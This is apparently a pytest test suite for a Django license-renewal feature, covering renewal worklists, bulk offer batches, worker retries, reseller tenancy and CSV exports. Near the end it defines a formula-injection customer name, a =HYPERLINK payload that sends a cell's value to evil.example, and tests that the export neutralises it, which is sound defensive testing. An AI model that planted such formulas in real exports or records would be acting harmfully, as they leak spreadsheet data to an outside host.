"""Renewals (docs/DOMAIN.md#renewals): the worklist for a cycle, bulk runs with a confirmation,
offers to the cycle after the window in one offer per customer, items that end done, skipped or
failed with reasons in the reader's language, and tenancy checked when the work runs."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django.utils import timezone, translation
from django_tasks import default_task_backend

from common.errors import DomainError
from common.formatting import spreadsheet_cell
from customers import services as customer_services
from customers.models import LicenseType, PeriodSource
from quotes import services
from quotes.models import Quote, RenewalBatch, RenewalItem
from quotes.verification import check_signature
from tests.conftest import OSLO, make_installation
from tests.quotes.factories import add_ports, paid_until

WINDOW = date(2026, 7, 1)  # the coming 1 July on the suite's frozen clock (2026-03-05)


def due_installation(customer, name, *, until=date(2026, 7, 1), ports=5):
    installation = make_installation(customer, name)
    holding = add_ports(installation, ports, date(2023, 3, 3))
    paid_until(installation, until, [holding])
    return installation


def never_paid(customer, name, ports=4):
    installation = make_installation(customer, name)
    add_ports(installation, ports, date(2024, 9, 2))
    return installation


def run_queued_tasks():
    """What the worker does: run every task the test backend collected, in order (the sweeper
    only when it is due, as a worker would)."""
    while default_task_backend.results:
        results = list(default_task_backend.results)
        default_task_backend.clear()
        for result in results:
            if result.task.name != "sweep_renewals":
                result.task.call(*result.args, **result.kwargs)


def make_batch(user, installations, capture, **options):
    with capture(execute=True):
        return services.renewal_batch_create(user=user, installations=installations,
                                             window_end=WINDOW, **options)


def worklist(client, query=""):
    return {row.name: row for row in client.get(f"/renewals/{query}").context["page"]}


# --- the worklist ------------------------------------------------------------------------------


def test_the_worklist_holds_due_lapsed_and_never_paid_installations_estimated_to_the_next_cycle(
        client, user_a, customer_a):
    due_installation(customer_a, "Due in July")
    due_installation(customer_a, "Lapsed", until=date(2025, 7, 1))
    due_installation(customer_a, "Paid ahead", until=date(2027, 7, 1))
    never_paid(customer_a, "Never")
    client.force_login(user_a)
    rows = worklist(client)
    assert set(rows) == {"Due in July", "Lapsed", "Never"}
    # 5 ports × 74 SSC, July 2026 – June 2027: the cycle after the window.
    assert rows["Due in July"].estimate == (370, pytest.approx(518))
    # Lapsed: 8 retroactive months at 2× (494) and 16 forward months to July 2027 (494).
    assert rows["Lapsed"].estimate == (988, Decimal("1383.20"))
    assert (rows["Lapsed"].months_lapsed, rows["Due in July"].months_lapsed) == (8, 0)
    assert rows["Never"].never and rows["Never"].flagged and not rows["Lapsed"].flagged
    page = client.get("/renewals/").content.decode()
    assert "no history recorded" in page
    assert f"/installations/{rows['Never'].pk}/periods/new/" in page
    assert [row.name for row in client.get("/renewals/?lapsed=on").context["page"]] == ["Lapsed"]
    assert len(worklist(client, "?window_end=2027-07")) == 4


def test_a_window_that_is_not_a_july_is_refused_next_to_the_field(client, user_a):
    client.force_login(user_a)
    response = client.get("/renewals/?window_end=2026-09")
    assert response.context["form"].errors["window_end"] == [
        "A cycle ends on 1 July; choose a July."]
    assert response.context["window_end"] == WINDOW


def test_a_reseller_sees_only_its_own_installations_in_the_worklist(client, user_a, user_b,
                                                                    customer_a, customer_b):
    due_installation(customer_a, "Mine")
    due_installation(customer_b, "Theirs")
    client.force_login(user_b)
    assert list(worklist(client)) == ["Theirs"]


def test_an_installation_with_an_open_offer_is_shown_with_it_and_left_out_of_the_whole_list(
        client, staff, user_a, customer_a, django_capture_on_commit_callbacks):
    offered = due_installation(customer_a, "Offered")
    due_installation(customer_a, "Plain")
    never_paid(customer_a, "Never")
    open_offer = services.quote_issue(quote=services.quote_create(
        customer=customer_a, installations=[offered], user=user_a), user=staff,
        prepare_pdf=False)
    client.force_login(staff)
    rows = worklist(client)
    assert rows["Offered"].open_offer_number == open_offer.number and rows["Offered"].flagged
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/renewals/", {"all": "1", "confirm": "1"})
    taken = {i.name for item in RenewalItem.objects.all() for i in item.installations.all()}
    assert taken == {"Plain"}, "open offers and installations without history need a person"


def test_an_item_whose_installation_got_an_open_offer_meanwhile_is_skipped(
        staff, user_a, customer_a, django_capture_on_commit_callbacks):
    installation = due_installation(customer_a, "Raced")
    created = make_batch(staff, [installation], django_capture_on_commit_callbacks)
    offer = services.quote_issue(quote=services.quote_create(
        customer=customer_a, installations=[installation], user=user_a), user=staff,
        prepare_pdf=False)
    run_queued_tasks()
    item = created.batch.items.get()
    assert (item.status, item.reason_code) == (RenewalItem.Status.SKIPPED, "open_offer")
    assert offer.number in item.reason
    assert Quote.objects.count() == 1


# --- what a renewal offer is -----------------------------------------------------------------


def test_a_mid_term_addition_renews_in_bulk_to_the_cycle_after_the_window_in_one_offer(
        staff, customer_a, frozen_clock, django_capture_on_commit_callbacks):
    """Paid until 1 July 2027 with 5 ports added in October 2026: the 2027 campaign's offer
    carries the co-term months and the forward months to 1 July 2028 — never a top-up alone."""
    installation = make_installation(customer_a, "Hovedkontor")
    twenty = add_ports(installation, 20, date(2024, 5, 2))
    paid_until(installation, date(2027, 7, 1), [twenty], source=PeriodSource.QUOTE)
    add_ports(installation, 5, date(2026, 10, 14))
    frozen_clock.move_to(datetime(2027, 3, 5, 10, 30, tzinfo=OSLO))
    window = date(2027, 7, 1)
    with django_capture_on_commit_callbacks(execute=True):
        created = services.renewal_batch_create(user=staff, installations=[installation],
                                                window_end=window)
    run_queued_tasks()
    offer = created.batch.items.get().quote
    assert offer.number == "SSA-2027-00001"
    assert {s.end for s in offer.sections.all()} == {date(2028, 7, 1)}
    lines = {(line.kind, line.start, line.end, line.quantity)
             for line in offer.lines.all()}
    assert lines == {
        ("coterm", date(2026, 10, 1), date(2027, 3, 1), 5),
        ("forward", date(2027, 3, 1), date(2028, 7, 1), 5),
        ("forward", date(2027, 7, 1), date(2028, 7, 1), 20),
    }
    with django_capture_on_commit_callbacks(execute=True):
        again = services.renewal_batch_create(user=staff, installations=[installation],
                                              window_end=window)
    run_queued_tasks()
    assert (again.batch, again.offers, again.already_in_a_batch) == (None, 0, 1)
    assert Quote.objects.count() == 1


def test_a_customer_with_two_sites_gets_one_co_termed_offer(staff, customer_a,
                                                            django_capture_on_commit_callbacks):
    lapsed = due_installation(customer_a, "Lager", until=date(2025, 7, 1))
    due = due_installation(customer_a, "Kontor")
    created = make_batch(staff, [lapsed, due], django_capture_on_commit_callbacks)
    assert (created.offers, created.installations) == (1, 2)
    run_queued_tasks()
    offer = created.batch.items.get().quote
    assert {s.name for s in offer.sections.all()} == {"Lager", "Kontor"}
    assert {s.end for s in offer.sections.all()} == {date(2027, 7, 1)}


def test_one_offer_per_installation_on_request(staff, customer_a,
                                               django_capture_on_commit_callbacks):
    sites = [due_installation(customer_a, "Lager"), due_installation(customer_a, "Kontor")]
    created = make_batch(staff, sites, django_capture_on_commit_callbacks, per_installation=True)
    run_queued_tasks()
    assert created.offers == 2 and Quote.objects.issued().count() == 2


def test_staff_issue_renewals_in_bulk_and_a_rerun_creates_nothing_new(
        staff, customer_a, customer_b, django_capture_on_commit_callbacks):
    installations = [due_installation(customer_a, f"A{i}") for i in range(3)]
    installations.append(due_installation(customer_b, "B0"))
    created = make_batch(staff, installations, django_capture_on_commit_callbacks)
    assert (created.offers, created.installations, created.already_in_a_batch) == (2, 4, 0)
    assert created.batch.progress() == {"total": 2, "done": 0, "skipped": 0, "failed": 0,
                                        "finished": False, "percent": 0}
    run_queued_tasks()
    progress = created.batch.progress()
    assert (progress["done"], progress["failed"], progress["finished"]) == (2, 0, True)
    numbers = sorted(Quote.objects.issued().values_list("number", flat=True))
    assert numbers == ["SSA-2026-00001", "SSA-2026-00002"]
    again = make_batch(staff, installations, django_capture_on_commit_callbacks)
    assert (again.batch, again.offers, again.already_in_a_batch) == (None, 0, 4)
    assert RenewalBatch.objects.count() == 1, "no empty batch"
    run_queued_tasks()
    assert Quote.objects.count() == 2


def test_a_task_run_twice_makes_one_offer(staff, customer_a, django_capture_on_commit_callbacks):
    created = make_batch(staff, [due_installation(customer_a, "Once")],
                         django_capture_on_commit_callbacks)
    item = created.batch.items.get()
    services.renewal_item_run(item_id=item.pk)
    services.renewal_item_run(item_id=item.pk)
    assert Quote.objects.count() == 1


def test_a_resellers_bulk_renewal_makes_drafts_marked_ready_to_issue(
        user_a, customer_a, customer_b, django_capture_on_commit_callbacks):
    mine = due_installation(customer_a, "Mine")
    created = make_batch(user_a, [mine], django_capture_on_commit_callbacks)
    run_queued_tasks()
    quote = created.batch.items.get().quote
    assert quote.is_draft and quote.ready_to_issue and quote.end_override == date(2027, 7, 1)
    with pytest.raises(DomainError, match="own customers"):
        services.renewal_batch_create(user=user_a, window_end=WINDOW,
                                      installations=[due_installation(customer_b, "Theirs")])


# --- skipped and failed ----------------------------------------------------------------------


def test_nothing_due_and_skypbx_are_skipped_never_failed_and_never_retried(
        staff, customer_a, django_capture_on_commit_callbacks):
    rented = make_installation(customer_a, "Rented only")
    holding = customer_services.holding_add(
        installation=rented, license_type=LicenseType.objects.get(code="port"), quantity=3,
        activated_on=date(2023, 3, 3), rented=True)
    paid_until(rented, WINDOW, [holding])
    cloud = customer_services.installation_create(
        customer=customer_a, name="Sky", deployment="skypbx", hardware_model="",
        firmware_version="", serial_number="", notes="")
    created = make_batch(staff, [rented, cloud, due_installation(customer_a, "Fine")],
                         django_capture_on_commit_callbacks, per_installation=True)
    run_queued_tasks()
    reasons = {item.installations.get().name: (item.status, item.reason_code)
               for item in created.batch.items.all()}
    assert reasons == {"Rented only": ("skipped", "nothing_due"),
                       "Sky": ("skipped", "not_applicable"), "Fine": ("done", "")}
    progress = created.batch.progress()
    assert (progress["skipped"], progress["failed"], progress["finished"]) == (2, 0, True)
    with django_capture_on_commit_callbacks(execute=True):
        assert services.renewal_batch_retry_failed(batch=created.batch, user=staff) == 0


def test_reasons_are_stored_as_codes_and_read_in_the_readers_language(
        staff, customer_a, django_capture_on_commit_callbacks):
    rented = make_installation(customer_a, "Rented only")
    holding = customer_services.holding_add(
        installation=rented, license_type=LicenseType.objects.get(code="port"), quantity=3,
        activated_on=date(2023, 3, 3), rented=True)
    paid_until(rented, WINDOW, [holding])
    created = make_batch(staff, [rented], django_capture_on_commit_callbacks)
    with translation.override("nb"):  # the worker's language does not matter
        run_queued_tasks()
    item = created.batch.items.get()
    assert (item.reason_code, item.reason_params) == ("nothing_due", {"date": "01.07.2027"})
    with translation.override("en"):
        assert item.reason == "Nothing is due before 01.07.2027."
    with translation.override("nb"):
        assert item.reason == "Ingenting forfaller før 01.07.2027."


def test_failures_are_recorded_with_their_reason_and_can_be_retried(
        staff, customer_a, monkeypatch, django_capture_on_commit_callbacks):
    installation = due_installation(customer_a, "Unlucky")
    created = make_batch(staff, [installation], django_capture_on_commit_callbacks)

    def broken(**kwargs):
        raise RuntimeError("the disk is full")

    monkeypatch.setattr("quotes.services.renewals.quote_issue", broken)
    run_queued_tasks()
    item = created.batch.items.get()
    assert (item.status, item.reason_code, item.reason_params) == (
        "failed", "error", {"error": "RuntimeError"})
    monkeypatch.undo()
    with django_capture_on_commit_callbacks(execute=True):
        assert services.renewal_batch_retry_failed(batch=created.batch, user=staff) == 1
    run_queued_tasks()
    assert created.batch.items.get().status == RenewalItem.Status.DONE


# --- the sweeper -------------------------------------------------------------------------------


def test_an_item_whose_worker_died_is_queued_again_and_given_up_after_three_attempts(
        staff, customer_a, frozen_clock, django_capture_on_commit_callbacks):
    created = make_batch(staff, [due_installation(customer_a, "Crashy")],
                         django_capture_on_commit_callbacks)
    item = created.batch.items.get()
    default_task_backend.clear()
    for attempt in range(1, 4):
        # A worker takes it and dies: the taking is committed, the work never is.
        RenewalItem.objects.filter(pk=item.pk).update(started_at=timezone.now(),
                                                      attempts=attempt)
        frozen_clock.shift(30)
        assert services.renewal_sweep().queued_again == [], "not before the timeout"
        frozen_clock.shift(600)
        with django_capture_on_commit_callbacks(execute=True):
            swept = services.renewal_sweep()
        if attempt < 3:
            assert swept.queued_again == [item.pk]
            names = [r.task.name for r in default_task_backend.results]
            assert names == ["renew", "sweep_renewals"]
            default_task_backend.clear()
    assert swept.given_up == [item.pk]
    item.refresh_from_db()
    assert (item.status, item.reason_code) == ("failed", "gave_up")
    assert created.batch.progress()["finished"]


# --- the pages ---------------------------------------------------------------------------------


def test_a_bulk_run_asks_for_confirmation_with_counts_and_totals_first(
        client, staff, customer_a, customer_b, django_capture_on_commit_callbacks):
    a = [due_installation(customer_a, "A1"), due_installation(customer_a, "A2")]
    b = due_installation(customer_b, "B1", ports=1)
    client.force_login(staff)
    response = client.post("/renewals/", {"installation": [a[0].pk, a[1].pk, b.pk]})
    assert response.status_code == 200 and not RenewalBatch.objects.exists()
    context = response.context
    assert (context["offers"], context["customers"], len(context["chosen"])) == (2, 2, 3)
    assert context["ssc"] == 370 + 370 + 74
    page = response.content.decode()
    assert "Issue 2 signed renewal offers?" in page and "814 SSC" in page
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/renewals/", {"installation": [a[0].pk, a[1].pk, b.pk],
                                               "confirm": "1"})
    batch = RenewalBatch.objects.get()
    assert response["Location"] == f"/renewals/batches/{batch.pk}/"
    assert batch.items.count() == 2


def test_the_batch_page_shows_progress_the_grouping_and_the_reasons(
        client, staff, user_b, customer_a, django_capture_on_commit_callbacks):
    client.force_login(staff)
    installations = [due_installation(customer_a, f"I{i}") for i in range(2)]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/renewals/", {"installation": [i.pk for i in installations],
                                               "confirm": "1"})
    page = client.get(response["Location"]).content.decode()
    assert 'data-done="0"' in page and 'data-total="1"' in page and 'hx-trigger="every 1s"' in page
    assert "One offer per customer" in page and "I0" in page and "I1" in page
    run_queued_tasks()
    partial = client.get(response["Location"], HTTP_HX_REQUEST="true").content.decode()
    assert 'data-done="1"' in partial and "every 1s" not in partial
    client.force_login(user_b)
    assert client.get(response["Location"]).status_code == 404


def test_selecting_all_takes_the_whole_filtered_list(client, staff, customer_a,
                                                     django_capture_on_commit_callbacks):
    for i in range(3):
        due_installation(customer_a, f"All{i}")
    due_installation(customer_a, "Lapsed", until=date(2025, 7, 1))
    client.force_login(staff)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/renewals/?lapsed=on", {"all": "1", "confirm": "1"})
    taken = [i.name for item in RenewalItem.objects.all() for i in item.installations.all()]
    assert taken == ["Lapsed"]


# --- tenancy when the work runs --------------------------------------------------------------


def test_after_a_move_the_old_reseller_can_neither_retry_nor_revise_nor_accept(
        client, staff, user_a, reseller_b, customer_a, django_capture_on_commit_callbacks):
    installation = due_installation(customer_a, "Moved")
    created = make_batch(user_a, [installation], django_capture_on_commit_callbacks)
    created.batch.items.update(status=RenewalItem.Status.FAILED, reason_code="error",
                               reason_params={"error": "RuntimeError"})
    offer = services.quote_issue(quote=services.quote_create(
        customer=customer_a, installations=[installation], user=user_a), user=staff,
        prepare_pdf=False)
    customer_services.customer_move(customer=customer_a, reseller=reseller_b, user=staff)
    client.force_login(user_a)
    assert client.post(f"/renewals/batches/{created.batch.pk}/retry/").status_code == 404
    assert client.get(f"/offers/{offer.pk}/revise/").status_code == 404
    assert client.post(f"/offers/{offer.pk}/revise/").status_code == 404
    assert client.post(f"/offers/{offer.pk}/accept/",
                       {"accepted_by_name": "Kari"}).status_code == 404
    offer.refresh_from_db()
    assert offer.state == "issued" and offer.revisions.count() == 0
    assert created.batch.items.get().status == RenewalItem.Status.FAILED
    # The issued offer stays with the reseller recorded on it for reading.
    assert client.get(f"/offers/{offer.pk}/").status_code == 200


def test_after_a_move_the_old_reseller_s_open_offer_flags_the_row_without_being_named(
        client, staff, user_a, user_b, reseller_b, customer_a, django_capture_on_commit_callbacks):
    installation = due_installation(customer_a, "Moved")
    offer = services.quote_issue(quote=services.quote_create(
        customer=customer_a, installations=[installation], user=user_a), user=staff,
        prepare_pdf=False)
    customer_services.customer_move(customer=customer_a, reseller=reseller_b, user=staff)
    client.force_login(user_b)
    row = worklist(client)["Moved"]
    assert row.flagged and row.has_open_offer
    assert (row.open_offer_id, row.open_offer_number) == (None, None)
    assert offer.number not in client.get("/renewals/").content.decode()
    export = b"".join(client.get("/renewals/export.csv").streaming_content).decode()
    assert "Moved" in export and offer.number not in export
    # The whole list leaves it out; ticked on its own, the batch skips it without the number.
    created = make_batch(user_b, [installation], django_capture_on_commit_callbacks)
    run_queued_tasks()
    item = created.batch.items.get()
    assert (item.status, item.reason_code) == ("skipped", "open_offer_elsewhere")
    assert offer.number not in item.reason
    # Staff see whose offer it is.
    client.force_login(staff)
    assert worklist(client)["Moved"].open_offer_number == offer.number


def test_after_a_move_the_old_reseller_s_offer_page_keeps_quiet_about_the_new_revision(
        client, staff, user_a, reseller_b, customer_a):
    installation = due_installation(customer_a, "Moved")
    offer = services.quote_issue(quote=services.quote_create(
        customer=customer_a, installations=[installation], user=user_a), user=staff,
        prepare_pdf=False)
    customer_services.customer_move(customer=customer_a, reseller=reseller_b, user=staff)
    revision = services.quote_revise(quote=offer, user=staff)
    client.force_login(user_a)
    page = client.get(f"/offers/{offer.pk}/")
    assert page.status_code == 200
    assert page.context["revisions"] == [] and page.context["successor"] is None
    client.force_login(staff)
    assert client.get(f"/offers/{offer.pk}/").context["revisions"] == [revision]


def test_an_item_of_a_customer_moved_away_since_the_batch_is_skipped_when_it_runs(
        staff, user_a, reseller_b, customer_a, django_capture_on_commit_callbacks):
    created = make_batch(user_a, [due_installation(customer_a, "Moved")],
                         django_capture_on_commit_callbacks)
    customer_services.customer_move(customer=customer_a, reseller=reseller_b, user=staff)
    run_queued_tasks()
    item = created.batch.items.get()
    assert (item.status, item.reason_code) == ("skipped", "customer_moved")
    assert not Quote.objects.exists()


# --- the worker --------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_bulk_renewal_runs_in_the_worker_with_progress_rising_to_the_total(
        settings, staff, customer_a):
    """The worker (`db_worker`, the database backend) renews 30 installations one offer each;
    after every task the progress rises, never falls, and ends at the total; numbers have no
    gap; PDFs verify; a second batch adds nothing."""
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    installations = [due_installation(customer_a, f"Bulk {i:02d}", ports=1 + i % 7)
                     for i in range(30)]
    created = services.renewal_batch_create(user=staff, installations=installations,
                                            window_end=WINDOW, per_installation=True)
    seen = [created.batch.progress()["done"]]
    while not created.batch.progress()["finished"]:
        call_command("db_worker", "--batch", "--max-tasks", "1", "--no-startup-delay",
                     stdout=StringIO(), stderr=StringIO())
        seen.append(created.batch.progress()["done"])
        assert len(seen) <= 40, "the worker made no progress"
    assert seen == sorted(seen) and seen[0] == 0 and seen[-1] == 30
    numbers = sorted(Quote.objects.issued().values_list("number", flat=True))
    assert numbers == [f"SSA-2026-{n:05d}" for n in range(1, 31)]
    for quote in Quote.objects.issued():
        with quote.pdf.open("rb") as pdf:
            assert check_signature(pdf.read()).genuine
    assert services.renewal_batch_create(user=staff, installations=installations,
                                         window_end=WINDOW).offers == 0


# --- exports ---------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_the_offer_export_follows_the_filters_and_the_scope(client, staff, user_a, user_b,
                                                            customer_a, customer_b):
    mine = services.quote_issue(quote=services.quote_create(
        customer=customer_a, installations=[due_installation(customer_a, "X")], user=user_a),
        user=staff, prepare_pdf=False)
    services.quote_create(customer=customer_b, installations=[due_installation(customer_b, "Y")],
                          user=user_b)
    client.force_login(user_a)
    rows = read_csv(client.get("/offers/export.csv"))
    assert rows[0][0] == "Offer" and len(rows) == 2
    assert rows[1][0] == mine.number and rows[1][2] == customer_a.name
    assert rows[1][9] == format(mine.gross, "f").replace(".", ",")
    everything = "\n".join(";".join(row) for row in rows)
    assert "CANARY-B" not in everything
    client.force_login(staff)
    assert len(read_csv(client.get("/offers/export.csv"))) == 3
    assert len(read_csv(client.get("/offers/export.csv?state=draft"))) == 2


def test_the_renewal_export_has_the_pages_estimates_and_flags_and_only_what_the_user_may_see(
        client, user_a, user_b, customer_a, customer_b):
    due_installation(customer_a, "Mine")
    never_paid(customer_a, "Never")
    due_installation(customer_b, "Theirs")
    client.force_login(user_a)
    response = client.get("/renewals/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = {row[3]: row for row in read_csv(response)[1:]}
    assert set(rows) == {"Mine", "Never"}
    assert rows["Mine"][6:8] == ["370", "518,00"]
    assert rows["Never"][4] == "no history recorded"
    assert "CANARY-B" not in str(rows)


def test_a_customer_with_more_sites_than_an_offer_may_cover_gets_several_offers(
        settings, staff, customer_a, django_capture_on_commit_callbacks):
    settings.SSA_MAX_INSTALLATIONS_PER_OFFER = 2
    sites = [due_installation(customer_a, f"Site {i}") for i in range(5)]
    created = make_batch(staff, sites, django_capture_on_commit_callbacks)
    assert (created.offers, created.installations) == (3, 5)
    assert sorted(item.installations.count() for item in created.batch.items.all()) == [1, 2, 2]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Klikk her")'


def test_a_customer_named_like_a_formula_is_exported_inert_while_amounts_stay_numbers(
    client, staff, user_a
):
    evil = customer_services.customer_create(user=user_a, name=FORMULA)
    installation = due_installation(evil, "Hovedkontor")
    offer = services.quote_issue(quote=services.quote_create(
        customer=evil, installations=[installation], user=user_a), user=staff, prepare_pdf=False)
    client.force_login(staff)

    offers = read_csv(client.get("/offers/export.csv"))
    row = next(row for row in offers if row[0] == offer.number)
    assert row[2] == "'" + FORMULA
    assert row[6] == str(offer.total_ssc)
    assert row[7:] == [format(amount, "f").replace(".", ",")
                       for amount in (offer.net, offer.vat, offer.gross)]
    assert "," in row[9] and not row[9].startswith("'")

    renewals = read_csv(client.get("/renewals/export.csv"))
    row = next(row for row in renewals if row[3] == "Hovedkontor")
    assert row[1] == "'" + FORMULA
    assert row[6:8] == ["370", "518,00"]  # 5 ports × 74 SSC, 12 months; NOK 1.40 per SSC


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+47 55 00 00 00", "'+47 55 00 00 00"), ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tTab", "'\tTab"), ("\rCR", "'\rCR"),
    ("Fjordtann AS", "Fjordtann AS"), ("AS=1", "AS=1"), ("", ""), (None, ""),
    (Decimal("-12.50"), "-12,50"), (-3, "-3"), (Decimal("1036.00"), "1036,00"),
    (date(2026, 7, 1), "2026-07-01"),
])
def test_spreadsheet_cells_neutralise_formulas_but_not_numbers(value, cell):
    assert spreadsheet_cell(value) == cell
